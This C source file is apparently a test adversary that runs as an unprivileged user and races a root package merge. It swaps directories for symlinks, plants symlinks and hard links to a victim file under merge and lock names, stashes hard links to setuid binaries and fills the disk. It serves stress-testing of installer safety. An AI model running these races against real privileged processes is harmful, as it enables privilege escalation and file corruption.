/*
 * A user (65534) who may write to directories of a root, and does there what harms most while root merges.
 *
 *   neighbour swap SEED DIR TARGET...     DIR becomes a symlink to one of TARGET, and DIR again
 *   neighbour move SEED DIR ELSEWHERE     DIR is somewhere else for a while
 *   neighbour plant SEED VICTIM DIR...    staged, kept and other names in each DIR are taken away, or become symlinks and hard links to VICTIM
 *   neighbour link SEED STASH DIR         a hard link in STASH to each setuid file that DIR shows
 *   neighbour fill SEED DIR               no room on the disk, now and then
 *
 * SIGTERM ends it; it prints how often it had its way. Where fs.protected_hardlinks is on, the kernel lets nobody link files of others: that
 * measure is not the one under test, so CAP_FOWNER is kept, and used by nothing but linkat(2).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { USER = 65534, PATH = 4352 };

static volatile sig_atomic_t ended;
static unsigned long done;
static unsigned seed;

static void end(int signal) {
  (void)signal;
  ended = 1;
}

static unsigned below(unsigned limit) { return (unsigned)rand_r(&seed) % limit; }

static void pause_us(unsigned most) {
  struct timespec span = {0, (long)below(most + 1) * 1000};
  nanosleep(&span, NULL);
}

static int did(int result) {
  if (result == 0) done++;
  return result;
}

static void become_user(int keeps_links) {
  if (keeps_links) prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0);
  if (setgroups(0, NULL) != 0 || setresgid(USER, USER, USER) != 0 || setresuid(USER, USER, USER) != 0) abort();
  if (keeps_links) {
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{0}};
    data[0].effective = data[0].permitted = 1u << CAP_FOWNER;
    if (syscall(SYS_capset, &header, data) != 0) abort();
  }
  /* After the change of user, which forgets it: whoever started us may be killed. */
  prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
  /* Those who are attacked have to get somewhere, too. */
  setpriority(PRIO_PROCESS, 0, 5);
}

/* What root made in the meantime where a directory is to come back goes out of the way. */
static void bring_back(const char *from, const char *to) {
  char junk[PATH];
  for (int tries = 0; tries < 50 && rename(from, to) != 0 && errno != ENOENT; tries++) {
    snprintf(junk, sizeof junk, "%s.junk%u", to, below(1000000));
    rename(to, junk);
  }
}

static void swap(const char *dir, char **targets, int count) {
  char link[PATH], away[PATH];
  snprintf(link, sizeof link, "%s.link", dir);
  snprintf(away, sizeof away, "%s.away", dir);
  while (!ended) {
    const char *target = targets[below((unsigned)count)];
    unlink(link);
    if (below(3) > 0) {
      if (symlink(target, link) == 0 && did(renameat2(AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE)) == 0) {
        pause_us(400);
        if (renameat2(AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) != 0) bring_back(link, dir);
      }
    } else if (did(rename(dir, away)) == 0) {
      if (symlink(target, dir) == 0) {
        pause_us(400);
        unlink(dir);
      }
      bring_back(away, dir);
    }
    /* Long enough for a merge to get by between two of them, and short enough to meet most. */
    pause_us(below(4) == 0 ? 20000 : 500);
  }
}

static void move(const char *dir, const char *elsewhere) {
  while (!ended) {
    if (did(rename(dir, elsewhere)) == 0) {
      pause_us(1000);
      bring_back(elsewhere, dir);
    }
    pause_us(below(4) == 0 ? 30000 : 2000);
  }
}

/* Something else under a name, at once. */
static void put(int dir, const char *made, const char *name) {
  if (did(renameat2(dir, made, dir, name, RENAME_EXCHANGE)) != 0) renameat(dir, made, dir, name);
}

static void harm(int dir, const char *name, const char *victim) {
  char made[64];
  snprintf(made, sizeof made, "mine%u", below(1000000));
  switch (below(6)) {
    case 0:
      did(renameat(dir, name, dir, made));
      break;
    case 1:
      if (symlinkat(victim, dir, made) == 0) put(dir, made, name);
      break;
    case 2:
      if (did(unlinkat(dir, name, 0)) == 0 || did(unlinkat(dir, name, AT_REMOVEDIR)) == 0) symlinkat(victim, dir, name);
      break;
    case 3:
      if (linkat(AT_FDCWD, victim, dir, made, 0) == 0) put(dir, made, name);
      break;
    case 4: {
      int file = openat(dir, made, O_CREAT | O_EXCL | O_WRONLY, 0600);
      if (file < 0) break;
      /* Root must not take our mode for that of another file. */
      fchmod(file, 06777);
      close(file);
      put(dir, made, name);
      break;
    }
    default:
      if (mkdirat(dir, made, 0777) == 0) put(dir, made, name);
  }
}

/* Names that a merge may want to use or may believe. */
static void forge(int dir, const char *victim) {
  static const char *const names[] = {".emplace", "._cfg0000_lab-passwd", "-MERGING-app-2", ".lab-passwd.emplace-aaaaaaaa-s0",
                                      "lab-passwd.backup.0000", ".app:0.portage_lockfile", "lab-passwd", "fresh"};
  const char *name = names[below(sizeof names / sizeof *names)];
  int state;
  switch (below(4)) {
    case 0:
      did(symlinkat(victim, dir, name));
      break;
    case 1:
      did(linkat(AT_FDCWD, victim, dir, name, 0));
      break;
    case 2:
      if (did(mkdirat(dir, name, 0755)) != 0) break;
      state = openat(dir, name, O_DIRECTORY | O_NOFOLLOW);
      if (state < 0) break;
      symlinkat(victim, state, "journal");
      symlinkat(victim, state, "journal.new");
      linkat(AT_FDCWD, victim, state, "lock", 0);
      close(state);
      break;
    default:
      state = openat(dir, name, O_DIRECTORY | O_NOFOLLOW);
      if (state >= 0) {
        unlinkat(state, "journal", 0);
        unlinkat(state, "journal.new", 0);
        unlinkat(state, "lock", 0);
        close(state);
      }
      if (unlinkat(dir, name, 0) != 0) unlinkat(dir, name, AT_REMOVEDIR);
  }
}

static int is_mine(const char *name) { return strncmp(name, "mine", 4) == 0; }

static int is_of_merge(const char *name) {
  return strstr(name, ".emplace-") != NULL || strcmp(name, ".emplace") == 0 || strncmp(name, "-MERGING-", 9) == 0;
}

static void plant(const char *victim, char **dirs, int count) {
  while (!ended) {
    DIR *list = opendir(dirs[below((unsigned)count)]);
    if (list == NULL) {
      pause_us(200);
      continue;
    }
    int dir = dirfd(list);
    for (struct dirent *entry; !ended && (entry = readdir(list)) != NULL;) {
      if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
      if (is_mine(entry->d_name)) {
        if (unlinkat(dir, entry->d_name, 0) != 0) unlinkat(dir, entry->d_name, AT_REMOVEDIR);
      } else if (is_of_merge(entry->d_name) ? below(3) == 0 : below(200) == 0) {
        harm(dir, entry->d_name, victim);
      }
    }
    if (below(20) == 0) forge(dir, victim);
    closedir(list);
    pause_us(below(4) == 0 ? 10000 : 300);
  }
}

static void stash(const char *stash_dir, const char *from) {
  int to = open(stash_dir, O_DIRECTORY);
  if (to < 0) abort();
  while (!ended) {
    DIR *list = opendir(from);
    if (list == NULL) {
      /* It goes with the last package. */
      pause_us(500);
      continue;
    }
    int dir = dirfd(list), merging = 0;
    for (struct dirent *entry; (entry = readdir(list)) != NULL;) merging |= is_of_merge(entry->d_name);
    rewinddir(list);
    /* Not before the plan is made: a package with a setuid program that has a link too many is refused. */
    for (struct dirent *entry; merging && (entry = readdir(list)) != NULL;) {
      struct stat found;
      char kept[32];
      if (fstatat(dir, entry->d_name, &found, AT_SYMLINK_NOFOLLOW) != 0) continue;
      if (!S_ISREG(found.st_mode) || (found.st_mode & 06000) == 0) continue;
      snprintf(kept, sizeof kept, "%lu", (unsigned long)found.st_ino);
      did(linkat(dir, entry->d_name, to, kept, 0));
    }
    closedir(list);
    pause_us(50);
  }
}

static void fill(const char *dir) {
  static char block[1 << 16];
  char path[PATH];
  snprintf(path, sizeof path, "%s/fill", dir);
  int file = open(path, O_CREAT | O_WRONLY | O_NOFOLLOW, 0600);
  if (file < 0) abort();
  while (!ended) {
    while (!ended && write(file, block, sizeof block) > 0);
    if (errno == ENOSPC) done++;
    pause_us(20000);
    if (ftruncate(file, 0) != 0 || lseek(file, 0, SEEK_SET) != 0) abort();
    for (int n = below(20); n >= 0 && !ended; n--) pause_us(30000);
  }
}

int main(int count, char **args) {
  if (count < 4) return 2;
  const char *role = args[1];
  seed = (unsigned)strtoul(args[2], NULL, 10);
  struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  umask(0);
  become_user(strcmp(role, "plant") == 0 || strcmp(role, "link") == 0);
  if (strcmp(role, "swap") == 0) swap(args[3], args + 4, count - 4);
  else if (strcmp(role, "move") == 0) move(args[3], args[4]);
  else if (strcmp(role, "plant") == 0) plant(args[3], args + 4, count - 4);
  else if (strcmp(role, "link") == 0) stash(args[3], args[4]);
  else if (strcmp(role, "fill") == 0) fill(args[3]);
  else return 2;
  printf("%lu\n", done);
  return 0;
}
